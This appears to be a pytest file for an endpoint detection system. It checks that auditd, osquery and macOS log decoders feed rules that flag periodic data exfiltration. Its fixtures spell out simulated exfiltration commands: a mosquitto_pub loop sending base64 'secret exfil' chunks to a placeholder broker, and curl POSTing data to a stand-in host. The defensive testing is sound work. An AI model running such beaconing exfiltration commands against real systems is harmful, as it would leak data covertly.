"""AN0003/AN0004 from host logs in their real formats, decoded by the auditd, macOS and osquery decoders.

The lines come from tests/hostlog_writers.py (auditd records, unified-log ndjson, eslogger, osquery result lines);
the same scenarios as tests/analytics/detections/test_endpoint.py, but through the decoders instead of a builder.
"""

from __future__ import annotations

import numpy as np
import pytest

from analytics.detections.endpoint import EndpointDetector
from analytics.endpoint import EndpointBatchBuilder
from collector.config import load_config
from collector.hostlogs.decoder import HostLogDecoder
from tests.analytics.detections.test_an0005 import T0, flows
from tests.hostlog_writers import AuditdWriter, eslogger_exec, osquery_process_event, unified_log_connection

ALPHABET = list("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")


@pytest.fixture(scope="module")
def cfg():
    return load_config(None)


def beats(period: float, hours: float, seed: int, jitter: float = 0.3) -> np.ndarray:
    rng = np.random.default_rng(seed)
    return np.cumsum(rng.uniform(period * (1 - jitter), period, int(hours * 3600 / period)))


def decode(lines: list[str]):
    dec, b = HostLogDecoder(), EndpointBatchBuilder()
    dec.feed_lines([ln.encode() for ln in lines], b)
    dec.finish(b)
    assert not dec.rejected
    return b.build()


def evaluate(cfg, batch, *flow_batches):
    det = EndpointDetector(cfg)
    det.ingest(batch)
    for fb in flow_batches:
        det.observe_flows(fb)
    latest = max([det.latest_ns] + [int(fb.columns["start_ns"].max()) for fb in flow_batches])
    return det.evaluate(latest)


def bash_loop(exe: str, times, broker: str = "203.0.113.7", port: int = 1883, seed: int = 7) -> list[str]:
    """auditd records of ``while :; do mosquitto_pub -h BROKER -t <random> -m <base64>; sleep ...; done``."""
    rng = np.random.default_rng(seed)
    w = AuditdWriter(node="lnx1")
    lines = []
    for i, t in enumerate(times):
        topic = "".join(rng.choice(ALPHABET, 24))
        argv = ["mosquitto_pub", "-h", broker, "-p", str(port), "-t", topic,
                "-m", "U2VjcmV0IGV4ZmlsIGNodW5rIG51bWJlciA" + str(i)]
        pid = 2000 + i
        lines += w.execve(T0 + t, pid, 1999, exe, argv)
        lines += w.connect(T0 + t + 0.05, pid, 1999, exe, argv, broker, port)
    return lines


def test_bash_loop_of_mosquitto_pub_in_auditd_raises_an0003(cfg):
    times = beats(60, 4, 7, jitter=0.2)
    batch = decode(bash_loop("/usr/bin/mosquitto_pub", times))
    assert len(batch) == 2 * len(times)
    alerts = evaluate(cfg, batch, flows(times + 0.1, src="10.0.0.5", dst="203.0.113.7", dport=1883))
    assert [a.rule_id for a in alerts] == ["AN0003"]
    d = alerts[0].to_dict()
    assert d["process"]["name"] == "mosquitto_pub" and d["host"]["name"] == "lnx1"
    assert d["destination"]["ip"] == "203.0.113.7" and d["destination"]["port"] == 1883
    assert d["source"]["ip"] == "10.0.0.5"  # learnt from the flows: auditd's SOCKADDR names the destination only
    assert d["brokerwatch"]["evidence"]["invocation"]["tool"] == "mosquitto_pub"


def test_the_same_loop_from_the_broker_daemon_raises_nothing(cfg):
    times = beats(60, 4, 7, jitter=0.2)
    batch = decode(bash_loop("/usr/sbin/mosquitto", times))
    assert evaluate(cfg, batch, flows(times + 0.1, src="10.0.0.5", dst="203.0.113.7", dport=1883)) == []


def test_osquery_process_events_of_the_loop_raise_an0003(cfg):
    rng = np.random.default_rng(3)
    lines = [osquery_process_event(
        T0 + t, "edge-gw-07", 4000 + i, 3999, "/usr/bin/mosquitto_pub",
        f"mosquitto_pub -h 203.0.113.7 -t {''.join(rng.choice(ALPHABET, 20))} -m aGVsbG8gd29ybGQgZnJvbSBsaW51eA{i}")
        for i, t in enumerate(beats(60, 4, 3, jitter=0.2))]
    alerts = evaluate(cfg, decode(lines))
    assert [a.rule_id for a in alerts] == ["AN0003"]
    assert alerts[0].to_dict()["host"]["name"] == "edge-gw-07"


def test_curl_posting_to_a_broker_uri_in_eslogger_and_the_unified_log_raises_an0004(cfg):
    lines = []
    times = beats(180, 6, 3, jitter=0.4)
    for i, t in enumerate(times):
        argv = ["curl", "-s", "-X", "POST", "https://cdn-sync.example.net/mqtt", "-d", "aGVsbG8gd29ybGQgZnJvbSBtYWM="]
        lines.append(eslogger_exec(T0 + t, 500 + i, 480, "/usr/bin/curl", argv))
        lines.append(unified_log_connection(T0 + t + 1.2, 1.1, 500 + i, "/usr/bin/curl", 10 + i, "10.1.1.30",
                                            50000 + i, "192.0.2.44", 443))
    batch = decode(lines)
    assert len(batch) == 2 * len(times)
    alerts = evaluate(cfg, batch)
    assert [a.rule_id for a in alerts] == ["AN0004"]
    d = alerts[0].to_dict()
    assert d["process"]["name"] == "curl" and d["destination"]["ip"] == "192.0.2.44"
    assert "URIPathRegex" in d["brokerwatch"]["evidence"]["fired"]
